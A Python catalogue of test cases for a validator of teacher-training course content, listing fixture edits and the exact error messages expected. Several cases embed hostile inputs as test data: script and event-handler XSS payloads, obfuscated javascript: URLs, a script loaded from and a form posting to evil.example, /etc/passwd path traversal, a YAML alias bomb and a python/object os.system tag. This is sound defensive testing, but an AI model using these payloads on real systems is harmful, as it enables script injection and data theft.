"""The catalogue of broken and hostile sources: each case edits a copy of tests/fixtures/minimal
and names the exact problem lines that validation must print (and nothing else as an error).

Paths in edits are relative to the tree; `expected` lines are as `Problem.format()` prints them.
"""

from __future__ import annotations

from dataclasses import dataclass

from edits import Append, Edit, FixtureEdit, Remove, Socket, SymlinkOut, Transform, Write

B = "prog/year-1/b1/"
WATCH, READ, MENTOR, BLOCK = B + "b1-w1-watch.md", B + "b1-w1-read.md", B + "b1-w1-mentor.md", B + "block.yaml"
PROG, VIDEOS, ASSETS, TRANSCRIPT = (
    "prog/programme.yaml",
    "prog/videos.yaml",
    "prog/assets.yaml",
    "prog/transcripts/intro.md",
)


@dataclass
class Case:
    name: str
    edits: list[FixtureEdit]
    expected: list[str]  # every problem line, in the order validation prints them


CASES: list[Case] = []
C = CASES.append
# YAML and files
C(
    Case(
        "yaml-unclosed-bracket",
        [Edit(BLOCK, "pages: [b1-intro]", "pages: [b1-intro")],
        [
            "minimal/prog/year-1/b1/block.yaml:8: error [yaml-syntax] YAML could not be read: did not find expected ',' or ']'. Close the bracket or quote opened on this line."
        ],
    )
)
C(
    Case(
        "yaml-front-matter-syntax",
        [Edit(READ, "title: Read about memory", "title: Read: about: memory")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:5: error [yaml-syntax] YAML could not be read: mapping values are not allowed in this context. Check the indentation and punctuation on this line and the one before it."
        ],
    )
)
C(
    Case(
        "tab-indentation",
        [Edit(BLOCK, "  ect: What ECTs do.", "\tect: What ECTs do.")],
        [
            "minimal/prog/year-1/b1/block.yaml:6: error [yaml-syntax] YAML could not be read: found character that cannot start any token. Indent with spaces, not tabs."
        ],
    )
)
C(
    Case(
        "duplicate-key-yaml",
        [Edit(BLOCK, "term: autumn\n", "term: autumn\nterm: spring\n")],
        [
            "minimal/prog/year-1/b1/block.yaml:4: error [duplicate-key] The key 'term' is given twice (first on line 3). Delete or merge one of them."
        ],
    )
)
C(
    Case(
        "duplicate-key-front-matter",
        [Edit(READ, "minutes: 20\n", "minutes: 20\nminutes: 25\n")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:7: error [duplicate-key] The key 'minutes' is given twice (first on line 6). Delete or merge one of them."
        ],
    )
)
C(
    Case(
        "wrong-type-minutes",
        [Edit(READ, "minutes: 20", "minutes: twenty")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:6: error [wrong-type] Expected a whole number for 'minutes' in the front matter but found 'twenty'."
        ],
    )
)
C(
    Case(
        "missing-minutes-not-a-plan",
        [Edit(READ, "minutes: 20\n", "")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:2: error [missing-key] Missing key 'minutes' in the front matter. Add 'minutes:' (how long it takes; only an untimed mentor plan may leave it out, to last its year's settings.meeting_minutes)."
        ],
    )
)
C(
    Case(
        "meeting-minutes-too-short",
        [Edit(PROG, "settings:", "settings:\n  meeting_minutes: [45, 5]")],
        [
            "minimal/prog/programme.yaml:6: error [wrong-type] Expected a whole number of minutes, 10 or more for item 2 of 'meeting_minutes' in the settings but found the number 5."
        ],
    )
)
C(
    Case(
        "wrong-type-half-term",
        [Edit(BLOCK, "half_term: 1", "half_term: 3")],
        [
            "minimal/prog/year-1/b1/block.yaml:4: error [wrong-type] Expected one of 1, 2 for 'half_term' in the block but found the number 3."
        ],
    )
)
C(
    Case(
        "wrong-type-statement-float",
        [Edit(MENTOR, "intentions: ['2.2', 2a]", "intentions: [2.2, 2a]")],
        [
            "minimal/prog/year-1/b1/b1-w1-mentor.md:7: error [wrong-type] Expected a statement id (like '2.1' or 8f) for item 1 of 'intentions' in the front matter but found the number 2.2. Quote the id so YAML keeps it as written: '2.2'."
        ],
    )
)
C(
    Case(
        "wrong-type-week-zero",
        [Edit(BLOCK, "  - week: 4\n", "  - week: 0\n")],
        [
            "minimal/prog/year-1/b1/block.yaml:19: error [wrong-type] Expected a week number or a range such as 4-6 for 'week' in a week but found the number 0."
        ],
    )
)
C(
    Case(
        "unknown-key-front-matter",
        [Edit(READ, "title: Read", "titel: Read")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:2: error [missing-key] Missing key 'title' in the front matter. Add 'title:' (text).",
            "minimal/prog/year-1/b1/b1-w1-read.md:5: error [unknown-key] Unknown key 'titel' in the front matter. Expected one of: assets, id, intentions, kind, minutes, phases, role, routes, title. Did you mean 'title'?",
        ],
    )
)
C(
    Case(
        "unknown-key-block",
        [Edit(BLOCK, "term: autumn", "term: autumn\nterms: spring")],
        [
            "minimal/prog/year-1/b1/block.yaml:4: error [unknown-key] Unknown key 'terms' in the block. Expected one of: diagnostic, framework, half_term, id, pages, routes, summary, term, title, weeks. Did you mean 'term'?"
        ],
    )
)
C(
    Case(
        "empty-yaml-file",
        [Write(VIDEOS, "")],
        [
            "minimal/prog/videos.yaml:1: error [empty-file] The file is empty.",
            "minimal/prog/year-1/b1/b1-w1-watch.md:15: error [unknown-reference] No video has the id 'intro'.",
        ],
    )
)
C(
    Case(
        "empty-session-body",
        [
            Write(
                B + "b1-w1-tutor.md",
                "---\nid: b1-w1-tutor\nrole: tutor\nkind: material\ntitle: T\nminutes: 15\n---\n\n",
            )
        ],
        [
            "minimal/prog/year-1/b1/b1-w1-tutor.md:8: error [empty-body] The session 'b1-w1-tutor' has no text below its front matter. Write the session's body."
        ],
    )
)
C(
    Case(
        "empty-transcript",
        [Write(TRANSCRIPT, "\n\n")],
        [
            "minimal/prog/transcripts/intro.md:1: error [empty-body] The transcript is empty. Write what is said in the video."
        ],
    )
)
C(
    Case(
        "no-front-matter",
        [Write(B + "b1-w1-tutor.md", "Just text.\n")],
        [
            "minimal/prog/year-1/b1/b1-w1-tutor.md:1: error [missing-key] The file has no front matter. Start it with a front matter block: ---, id:, role:, kind:, title:, minutes:, then ---."
        ],
    )
)
C(
    Case(
        "front-matter-not-closed",
        [Edit(READ, "assets: [sheet]\n---", "assets: [sheet]\n")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:1: error [yaml-syntax] The front matter is not closed. End the front matter with a line holding only ---."
        ],
    )
)
C(
    Case(
        "not-utf8-markdown",
        [Transform(READ, lambda b: b.replace(b"Read the summary", b"Read the \xe9summary"))],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:10: error [not-utf8] Byte 0xe9 is not UTF-8 text. Re-save the file as UTF-8."
        ],
    )
)
C(
    Case(
        "not-utf8-yaml",
        [Transform(BLOCK, lambda b: b.replace(b"Block one", b"Block \xff one"))],
        [
            "minimal/prog/year-1/b1/block.yaml:2: error [not-utf8] Byte 0xff is not UTF-8 text. Re-save the file as UTF-8."
        ],
    )
)
C(
    Case(
        "bom-then-error",
        [Transform(BLOCK, lambda b: b"\xef\xbb\xbf" + b.replace(b"half_term: 1", b"half_term: 3"))],
        [
            "minimal/prog/year-1/b1/block.yaml:4: error [wrong-type] Expected one of 1, 2 for 'half_term' in the block but found the number 3."
        ],
    )
)
C(
    Case(
        "crlf-then-error",
        [Transform(BLOCK, lambda b: b.replace(b"\n", b"\r\n").replace(b"half_term: 1", b"half_term: 3"))],
        [
            "minimal/prog/year-1/b1/block.yaml:4: error [wrong-type] Expected one of 1, 2 for 'half_term' in the block but found the number 3."
        ],
    )
)
C(
    Case(
        "crlf-markdown-line",
        [Transform(READ, lambda b: b.replace(b"\n", b"\r\n")), Append(READ, "\r\n<script>x()</script>\r\n")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unsafe-html] The element <script> is not allowed: content may not run scripts. Remove it, or use Markdown or a shortcode; settings.unsafe_html: strip removes it with a warning."
        ],
    )
)
C(
    Case(
        "very-large-file",
        [Append(TRANSCRIPT, "Words. " * 300_000)],
        [
            "minimal/prog/transcripts/intro.md:1: error [file-too-large] The file holds 2,100,067 bytes; a content file may hold at most 2,097,152. Split it, or move large material into a handout (assets.yaml)."
        ],
    )
)
C(Case("missing-site-file", [Remove("site.yaml")], ["minimal/site.yaml:1: error [missing-file] The file is missing."]))
C(
    Case(
        "missing-transcript-file",
        [Remove(TRANSCRIPT)],
        [
            "minimal/prog/videos.yaml:6: error [video-without-transcript] The transcript file 'transcripts/intro.md' is missing. Create it, or correct the path."
        ],
    )
)
C(
    Case(
        "missing-asset-file",
        [Remove("prog/assets/sheet.pdf")],
        [
            "minimal/prog/assets.yaml:4: error [missing-file] The handout file 'assets/sheet.pdf' is missing. Put the file there, or correct the path."
        ],
    )
)
# Dangling references of every kind
C(
    Case(
        "unknown-programme",
        [Edit("site.yaml", "[prog]", "[prgo]")],
        ["minimal/site.yaml:2: error [unknown-reference] No programme has the id 'prgo'. Did you mean 'prog'?"],
    )
)
C(
    Case(
        "unknown-framework",
        [Edit(PROG, "framework: ecf-2019", "framework: ecf-2020")],
        [
            "minimal/prog/programme.yaml:1: error [unknown-framework] No framework has the id 'ecf-2020'. Did you mean 'ecf-2019'?"
        ],
    )
)
C(
    Case(
        "unknown-block-in-year",
        [Edit(PROG, "blocks: [b1]", "blocks: [b1, b2]")],
        ["minimal/prog/programme.yaml:11: error [unknown-reference] No block has the id 'b2'."],
    )
)
C(
    Case(
        "unknown-session-in-week",
        [Edit(BLOCK, "tutor: [b1-w1-tutor]", "tutor: [b1-w1-tutor, b1-w9-tutor]")],
        [
            "minimal/prog/year-1/b1/block.yaml:14: error [unknown-reference] No session has the id 'b1-w9-tutor'. Did you mean 'b1-w1-tutor'?"
        ],
    )
)
C(
    Case(
        "unknown-session-in-block-pages",
        [Edit(BLOCK, "pages: [b1-intro]", "pages: [b1-intro, b1-outro]")],
        [
            "minimal/prog/year-1/b1/block.yaml:8: error [unknown-reference] No session has the id 'b1-outro'. Did you mean 'b1-intro'?"
        ],
    )
)
C(
    Case(
        "unknown-session-in-year-pages",
        [Edit(PROG, "pages: [welcome]", "pages: [welcome, farewell]")],
        ["minimal/prog/programme.yaml:10: error [unknown-reference] No session has the id 'farewell'."],
    )
)
C(
    Case(
        "unknown-see-target",
        [Edit(BLOCK, "- see: b1-w1-read", "- see: b1-w1-reed")],
        [
            "minimal/prog/year-1/b1/block.yaml:23: error [unknown-reference] No session has the id 'b1-w1-reed'. Did you mean 'b1-w1-read'?"
        ],
    )
)
C(
    Case(
        "unknown-asset-front-matter",
        [Edit(READ, "assets: [sheet]", "assets: [sheet, poster]")],
        ["minimal/prog/year-1/b1/b1-w1-read.md:7: error [unknown-reference] No handout has the id 'poster'."],
    )
)
C(
    Case(
        "unknown-asset-shortcode",
        [Edit(READ, 'asset("sheet")', 'asset("sheets")')],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:10: error [unknown-reference] No handout has the id 'sheets'. Did you mean 'sheet'?"
        ],
    )
)
C(
    Case(
        "unknown-video-shortcode",
        [Edit(WATCH, 'video("intro")', 'video("outro")')],
        [
            "minimal/prog/year-1/b1/b1-w1-watch.md:15: error [unknown-reference] No video has the id 'outro'. Did you mean 'intro'?"
        ],
    )
)
C(
    Case(
        "unknown-session-shortcode",
        [Edit(B + "b1-w2-practise.md", 'session("b1-w1-read")', 'session("b1-w1-raed")')],
        [
            "minimal/prog/year-1/b1/b1-w2-practise.md:10: error [unknown-reference] No session has the id 'b1-w1-raed'. Did you mean 'b1-w1-read'?"
        ],
    )
)
C(
    Case(
        "unknown-statement-shortcode",
        [Edit(WATCH, 'statement("2.2")', 'statement("2.99")')],
        [
            "minimal/prog/year-1/b1/b1-w1-watch.md:17: error [unknown-statement] The framework ecf-2019 has no statement '2.99'. Did you mean '2.9'?"
        ],
    )
)
C(
    Case(
        "unknown-statement-intention",
        [Edit(B + "b1-w2-practise.md", "intentions: ['2.8']", "intentions: ['2.88']")],
        [
            "minimal/prog/year-1/b1/b1-w2-practise.md:7: error [unknown-statement] The framework ecf-2019 has no statement '2.88'. Did you mean '2.8'?"
        ],
    )
)
C(
    Case(
        "code-with-other-statements-text",
        [
            Edit(
                WATCH,
                "id: 2b\n    wording: Plan so pupils connect new ideas to what they know.",
                "id: '2.2'\n    wording: Breaking complex material into smaller steps (e.g. using partially completed examples to focus pupils on the specific steps).",
            )
        ],
        [
            "minimal/prog/year-1/b1/b1-w1-watch.md:9: error [wording-mismatch] The wording given for 2.2 is the text of 2b. Did you mean 2b?"
        ],
    )
)
C(
    Case(
        "see-cycle",
        [Edit(BLOCK, "ect: [b1-w2-practise]", "ect: [{see: b1-w2-practise}]")],
        [
            "minimal/prog/year-1/b1/block.yaml:17: error [see-cycle] 'see: b1-w2-practise' points at a session that is only ever referred to, never listed. List 'b1-w2-practise' once without 'see:'."
        ],
    )
)
C(
    Case(
        "duplicate-session-id",
        [
            Write(
                B + "b1-w1-copy.md",
                "---\nid: b1-w1-read\nrole: ect\nkind: reading\ntitle: Copy\nminutes: 5\n---\n\nCopy.\n",
            )
        ],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:2: error [duplicate-id] The session id 'b1-w1-read' is also used by minimal/prog/year-1/b1/b1-w1-copy.md."
        ],
    )
)
C(
    Case(
        "duplicate-video-id",
        [
            Append(
                VIDEOS,
                "  - id: intro\n    title: Again\n    url: https://www.youtube.com/watch?v=abcdefghijm\n    duration: '1:00'\n    transcript: transcripts/intro.md\n",
            )
        ],
        ["minimal/prog/videos.yaml:8: error [duplicate-id] The video id 'intro' is used twice."],
    )
)
C(
    Case(
        "duplicate-block-id",
        [
            Write(
                "prog/year-1/b2/block.yaml",
                "id: b1\ntitle: Again\nterm: spring\nweeks:\n  - week: 1\n    title: W\n    ect: [welcome]\n",
            )
        ],
        [
            "minimal/prog/year-1/b2/block.yaml:1: error [duplicate-id] The block id 'b1' is also used by minimal/prog/year-1/b1/block.yaml."
        ],
    )
)
C(
    Case(
        "listed-twice",
        [Edit(BLOCK, "mentor: [b1-w4-mentor]", "mentor: [b1-w4-mentor, b1-w1-mentor]")],
        [
            "minimal/prog/year-1/b1/block.yaml:21: error [listed-twice] The session 'b1-w1-mentor' is already listed in b1, week 1. Write 'see: b1-w1-mentor' here to point at it instead."
        ],
    )
)
C(
    Case(
        "week-overlap",
        [Edit(BLOCK, "  - week: 4\n", "  - week: 3\n")],
        [
            "minimal/prog/year-1/b1/block.yaml:19: error [week-overlap] Week 3 overlaps the week before it, which ends at week 3. Start this entry at week 4."
        ],
    )
)
C(
    Case(
        "minutes-do-not-add-up",
        [Edit(MENTOR, "minutes: 45\nintentions", "minutes: 50\nintentions")],
        [
            "minimal/prog/year-1/b1/b1-w1-mentor.md:6: error [minutes-mismatch] The phases add up to 45 minutes (10 + 15 + 15 + 5) but the plan says minutes: 50. Correct the phase minutes or the plan's total."
        ],
    )
)
# Raw HTML, templates, addresses and paths
C(
    Case(
        "unclosed-details",
        [Append(READ, '\n<details markdown="1">\n<summary>More</summary>\n\nHidden.\n')],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unclosed-html] The <details> opened here is never closed. Add </details> where it ends."
        ],
    )
)
C(
    Case(
        "unclosed-div-in-transcript",
        [Append(TRANSCRIPT, '\n<div class="note">\nA note.\n')],
        [
            "minimal/prog/transcripts/intro.md:7: error [unclosed-html] The <div> opened here is never closed. Add </div> where it ends."
        ],
    )
)
C(
    Case(
        "stray-end-tag",
        [Append(READ, "\nText.</span>\n")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unclosed-html] The end tag </span> closes no open <span>. Remove it, or open <span> before it."
        ],
    )
)
C(
    Case(
        "jinja-statement",
        [Append(READ, "\n{% include 'secrets.txt' %}\n")],
        [
            'minimal/prog/year-1/b1/b1-w1-read.md:12: error [template-syntax] \'{% include \'secrets.txt\' %}\' is not a shortcode this format knows. Use {{ video("id") }}, {{ asset("id") }}, {{ statement("id") }} or {{ session("id") }}.'
        ],
    )
)
C(
    Case(
        "jinja-expression",
        [Append(READ, "\n{{ config.extra }}\n")],
        [
            'minimal/prog/year-1/b1/b1-w1-read.md:12: error [template-syntax] \'{{ config.extra }}\' is not a shortcode this format knows. Use {{ video("id") }}, {{ asset("id") }}, {{ statement("id") }} or {{ session("id") }}.'
        ],
    )
)
C(
    Case(
        "jinja-comment",
        [Append(READ, "\n{# hidden #}\n")],
        [
            'minimal/prog/year-1/b1/b1-w1-read.md:12: error [template-syntax] \'{# hidden #}\' is not a shortcode this format knows. Use {{ video("id") }}, {{ asset("id") }}, {{ statement("id") }} or {{ session("id") }}.'
        ],
    )
)
C(
    Case(
        "asset-path-climbs-out",
        [Edit(ASSETS, "file: assets/sheet.pdf", "file: ../../../etc/passwd")],
        [
            "minimal/prog/assets.yaml:4: error [path-outside] The handout path '../../../etc/passwd' climbs out of the programme folder. Put the file inside the programme folder and give its path relative to assets.yaml."
        ],
    )
)
C(
    Case(
        "transcript-path-climbs-out",
        [Edit(VIDEOS, "transcript: transcripts/intro.md", "transcript: ../../intro.md")],
        [
            "minimal/prog/videos.yaml:6: error [path-outside] The transcript path '../../intro.md' climbs out of the programme folder. Put the file inside the programme folder and give its path relative to videos.yaml."
        ],
    )
)
C(
    Case(
        "asset-absolute-path",
        [Edit(ASSETS, "file: assets/sheet.pdf", "file: /etc/passwd")],
        [
            "minimal/prog/assets.yaml:4: error [absolute-path] The handout path '/etc/passwd' is a path on one computer, not a path within the content. Put the file inside the programme folder and give its path relative to assets.yaml."
        ],
    )
)
C(
    Case(
        "symlink-out-of-tree",
        [SymlinkOut("prog/assets/sheet.pdf")],
        [
            "minimal/prog/assets/sheet.pdf:1: error [symlink-outside] 'sheet.pdf' is a link to a place outside the content folder. Copy the file into the content folder instead of linking to it."
        ],
    )
)
C(
    Case(
        "absolute-path-in-image",
        [Append(READ, "\n![Diagram](/home/author/diagram.png)\n")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [absolute-path] The address '/home/author/diagram.png' is a path on one computer or server root. Use a path relative to the file, or a handout shortcode."
        ],
    )
)
C(
    Case(
        "windows-path-in-link",
        [Append(READ, "\n[Notes](C:\\Users\\author\\notes.docx)\n")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [absolute-path] The address 'C:\\Users\\author\\notes.docx' is a path on one computer or server root. Use a path relative to the file, or a handout shortcode."
        ],
    )
)
C(
    Case(
        "script-in-session",
        [Append(READ, "\n<script>alert('hi')</script>\n")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unsafe-html] The element <script> is not allowed: content may not run scripts. Remove it, or use Markdown or a shortcode; settings.unsafe_html: strip removes it with a warning."
        ],
    )
)
C(
    Case(
        "script-in-transcript",
        [Append(TRANSCRIPT, '\n<script src="https://evil.example/x.js"></script>\n')],
        [
            "minimal/prog/transcripts/intro.md:7: error [unsafe-html] The element <script> is not allowed: content may not run scripts. Remove it, or use Markdown or a shortcode; settings.unsafe_html: strip removes it with a warning."
        ],
    )
)
C(
    Case(
        "script-mixed-case",
        [Append(READ, "\n<ScRiPt>alert(1)</sCrIpT>\n")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unsafe-html] The element <script> is not allowed: content may not run scripts. Remove it, or use Markdown or a shortcode; settings.unsafe_html: strip removes it with a warning."
        ],
    )
)
C(
    Case(
        "onclick-attribute",
        [Append(READ, '\n<span class="x" onclick="steal()">Click</span>\n')],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unsafe-html] The attribute 'onclick' on <span> is not allowed: content may not run scripts. Remove it, or use Markdown or a shortcode; settings.unsafe_html: strip removes it with a warning."
        ],
    )
)
C(
    Case(
        "onerror-on-img",
        [Append(READ, '\n<img src="x.png" alt="x" onerror="steal()">\n')],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unsafe-html] The attribute 'onerror' on <img> is not allowed: content may not run scripts. Remove it, or use Markdown or a shortcode; settings.unsafe_html: strip removes it with a warning."
        ],
    )
)
C(
    Case(
        "external-image-tracking-pixel",
        [Append(READ, '\n<img src="https://tracker.example.com/p.gif" alt="">\n')],
        [
            'minimal/prog/year-1/b1/b1-w1-read.md:12: error [external-image] The image \'https://tracker.example.com/p.gif\' loads from another website when the page opens. Save the image in the programme\'s assets, list it in assets.yaml and show it with {{ image("id", "alt text") }}.'
        ],
    )
)
C(
    Case(
        "javascript-url-markdown",
        [Append(READ, "\n[Click](javascript:alert(1))\n")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unsafe-url] The address 'javascript:alert(1)' is not allowed: javascript: addresses can run code. Link to a web page (https://...) or a handout instead."
        ],
    )
)
C(
    Case(
        "javascript-url-html",
        [Append(READ, '\n<a href="javascript:alert(1)">Click</a>\n')],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unsafe-url] The address 'javascript:alert(1)' is not allowed: javascript: addresses can run code. Link to a web page (https://...) or a handout instead."
        ],
    )
)
C(
    Case(
        "javascript-url-upper-case",
        [Append(READ, "\n[Click](JavaScript:alert(1))\n")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unsafe-url] The address 'JavaScript:alert(1)' is not allowed: javascript: addresses can run code. Link to a web page (https://...) or a handout instead."
        ],
    )
)
C(
    Case(
        "javascript-url-entities",
        [Append(READ, '\n<a href="&#106;ava&#x09;script:alert(1)">Click</a>\n')],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unsafe-url] The address 'java\\x09script:alert(1)' is not allowed: javascript: addresses can run code. Link to a web page (https://...) or a handout instead."
        ],
    )
)
C(
    Case(
        "data-url-image",
        [Append(READ, "\n![x](data:image/svg+xml;base64,PHN2Zz4=)\n")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unsafe-url] The address 'data:image/svg+xml;base64,PHN2Zz4=' is not allowed: data: addresses embed content that no check has seen. Link to a web page (https://...) or a handout instead."
        ],
    )
)
C(
    Case(
        "data-url-html",
        [Append(READ, '\n<img src="data:text/html,hi" alt="x">\n')],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unsafe-url] The address 'data:text/html,hi' is not allowed: data: addresses embed content that no check has seen. Link to a web page (https://...) or a handout instead."
        ],
    )
)
C(
    Case(
        "iframe-host-not-allowed",
        [Append(READ, '\n<iframe src="https://evil.example.com/embed" title="x"></iframe>\n')],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unsafe-html] An <iframe> may only load https:// addresses on www.youtube-nocookie.com, player.vimeo.com; this one loads 'https://evil.example.com/embed'. Remove it, or use Markdown or a shortcode; settings.unsafe_html: strip removes it with a warning."
        ],
    )
)
C(
    Case(
        "iframe-plain-http",
        [Append(READ, '\n<iframe src="http://www.youtube-nocookie.com/embed/abc" title="x"></iframe>\n')],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unsafe-html] An <iframe> may only load https:// addresses on www.youtube-nocookie.com, player.vimeo.com; this one loads 'http://www.youtube-nocookie.com/embed/abc'. Remove it, or use Markdown or a shortcode; settings.unsafe_html: strip removes it with a warning."
        ],
    )
)
C(
    Case(
        "style-element",
        [Append(READ, "\n<style>body { display: none }</style>\n")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unsafe-html] The element <style> is not allowed: the site's look comes from its stylesheets. Remove it, or use Markdown or a shortcode; settings.unsafe_html: strip removes it with a warning."
        ],
    )
)
C(
    Case(
        "style-attribute",
        [Append(READ, '\n<div class="x" style="position:fixed">x</div>\n')],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unsafe-html] The attribute 'style' on <div> is not allowed: use a class instead. Remove it, or use Markdown or a shortcode; settings.unsafe_html: strip removes it with a warning."
        ],
    )
)
C(
    Case(
        "form-element",
        [Append(READ, '\n<form action="https://evil.example/"><input name="p"></form>\n')],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unsafe-html] The element <form> is not allowed: content may not collect data. Remove it, or use Markdown or a shortcode; settings.unsafe_html: strip removes it with a warning.",
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unsafe-html] The element <input> is not allowed: content may not collect data. Remove it, or use Markdown or a shortcode; settings.unsafe_html: strip removes it with a warning.",
        ],
    )
)
C(
    Case(
        "object-element",
        [Append(TRANSCRIPT, '\n<object data="x.swf"></object>\n')],
        [
            "minimal/prog/transcripts/intro.md:7: error [unsafe-html] The element <object> is not allowed: content may not embed programs. Remove it, or use Markdown or a shortcode; settings.unsafe_html: strip removes it with a warning."
        ],
    )
)
C(
    Case(
        "staging-link-markdown",
        [Append(READ, "\n[Draft](https://staging.provider.org/draft)\n")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [forbidden-host] The address 'https://staging.provider.org/draft' points at a host that is never published ('staging' in its name). Link to the published address."
        ],
    )
)
C(
    Case(
        "localhost-link-html",
        [Append(READ, '\n<a href="http://localhost:8000/week-1/">Week 1</a>\n')],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [forbidden-host] The address 'http://localhost:8000/week-1/' points at a host that is never published ('localhost' in its name). Link to the published address."
        ],
    )
)
C(
    Case(
        "staging-reference-definition",
        [Append(READ, "\nSee [the draft][d].\n\n[d]: https://preview-staging.example.org/x\n")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:14: error [forbidden-host] The address 'https://preview-staging.example.org/x' points at a host that is never published ('staging' in its name). Link to the published address."
        ],
    )
)
C(
    Case(
        "staging-video-url",
        [Edit(VIDEOS, "url: https://www.youtube.com/watch?v=abcdefghijk", "url: https://staging.provider.org/v/1")],
        [
            "minimal/prog/videos.yaml:2: error [forbidden-host] The address 'https://staging.provider.org/v/1' points at a host that is never published ('staging' in its name). Link to the published address."
        ],
    )
)
C(
    Case(
        "yaml-deep-nesting",
        [Edit(BLOCK, "pages: [b1-intro]", "pages: " + "[" * 500 + "]" * 500)],
        [
            "minimal/prog/year-1/b1/block.yaml:1: error [yaml-syntax] YAML could not be read: brackets are nested more than 100 deep. Content never nests this deep; check for stray [ or { characters."
        ],
    )
)
C(
    Case(
        "yaml-alias-bomb",
        [
            Write(
                VIDEOS,
                "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
                + "".join(
                    f"{n}: &{n} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
                    for p, n in zip("abcdefg", "bcdefgh", strict=True)
                ),
            )
        ],
        [
            "minimal/prog/videos.yaml:1: error [yaml-syntax] YAML could not be read: its aliases expand to more than 200,000 values. Write the values out instead of repeating aliases (*name).",
            "minimal/prog/year-1/b1/b1-w1-watch.md:15: error [unknown-reference] No video has the id 'intro'.",
        ],
    )
)
C(
    Case(
        "yaml-python-tag",
        [Edit(BLOCK, "title: Block one", "title: !!python/object/apply:os.system ['echo hi']")],
        [
            "minimal/prog/year-1/b1/block.yaml:2: error [wrong-type] Expected text for 'title' in the block but found a list."
        ],
    )
)
# Inputs that never finish (issue 19): comments the renderer of Markdown 3.10 loops on.
BROKEN = (
    "error [broken-comment] The HTML comment mark '{}' is not a comment's end: HTML ends a comment only at '-->'. "
    "Write comments as <!-- note -->, or remove the mark."
)
C(
    Case(
        "comment-closed-with-bang",
        [Append(READ, "\nText <!-- x --!> more.\n")],
        ["minimal/prog/year-1/b1/b1-w1-read.md:12: " + BROKEN.format("--!>")],
    )
)
C(
    Case(
        "comment-empty-abrupt",
        [Append(TRANSCRIPT, "\nText <!--> more.\n\nAnd <!---> this.\n")],
        [
            "minimal/prog/transcripts/intro.md:7: " + BROKEN.format("<!-->"),
            "minimal/prog/transcripts/intro.md:9: " + BROKEN.format("<!--->"),
        ],
    )
)
# Issue 23: in a raw HTML block backticks make no code span (Python-Markdown keeps the block as it
# is), so what they enclose is markup: each of these ran a script that validation passed.
CDATA = (
    "error [broken-comment] The mark '<![CDATA[' opens no CDATA section in HTML: a browser reads it as a "
    "comment that ends at the first '>'. Write comments as <!-- note -->, or remove the mark."
)
ARTICLE_ESCAPE = "`</article><!--><script>alert(1)</script>-->`"
C(
    Case(
        "html-block-backticks-div",
        [Append(READ, f"\n<div>\n{ARTICLE_ESCAPE}\n</div>\n")],
        ["minimal/prog/year-1/b1/b1-w1-read.md:13: " + BROKEN.format("<!-->")],
    )
)
C(
    Case(
        "html-block-backticks-p",
        [Append(TRANSCRIPT, f"\n<p>{ARTICLE_ESCAPE}</p>\n")],
        ["minimal/prog/transcripts/intro.md:7: " + BROKEN.format("<!-->")],
    )
)
C(
    Case(
        "html-block-backticks-cdata",
        [Append(READ, "\n<div>\n`<![CDATA[><script>alert(1)</script>]]>`\n</div>\n")],
        ["minimal/prog/year-1/b1/b1-w1-read.md:13: " + CDATA],
    )
)
C(
    Case(
        "attr-list-theme-config-id",
        [Append(READ, "\nA paragraph.\n{: #__config }\n")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:13: error [unsafe-html] The id '__config' is the theme's: ids that start with '__' name the theme's own elements (its configuration is read from the first '#__config'). Choose an id that does not start with '__'."
        ],
    )
)
C(
    Case(
        "heading-slug-theme-id",
        [Append(READ, "\n## __config\n")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unsafe-html] The heading '__config' would get the id '__config', which is the theme's: ids that start with '__' name the theme's own elements. Reword the heading so it does not start with '__', or give it an id: {: #an-id }."
        ],
    )
)
EXTERNAL = (
    "error [external-image] The image '{}' loads from another website when the page opens. Save the image in "
    'the programme\'s assets, list it in assets.yaml and show it with {{{{ image("id", "alt text") }}}}.'
)
C(
    Case(
        "external-image-by-reference",
        [Append(READ, "\n![A diagram][fig]\n\n[fig]: https://tracker.example/i.png\n")],
        ["minimal/prog/year-1/b1/b1-w1-read.md:12: " + EXTERNAL.format("https://tracker.example/i.png")],
    )
)
C(
    Case(
        "external-image-protocol-relative",
        [Append(READ, "\n![A diagram](//tracker.example/i.png)\n")],
        ["minimal/prog/year-1/b1/b1-w1-read.md:12: " + EXTERNAL.format("//tracker.example/i.png")],
    )
)
